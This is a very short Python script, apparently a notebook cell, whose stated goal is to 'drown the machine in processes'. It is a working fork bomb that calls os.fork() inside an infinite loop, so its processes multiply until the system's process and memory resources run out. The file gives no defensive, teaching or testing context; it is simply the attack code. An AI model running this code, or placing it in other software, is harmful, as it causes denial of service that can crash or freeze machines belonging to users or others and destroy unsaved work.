# goal = "drown the machine in processes"

# %%
import os

while True:
    os.fork()
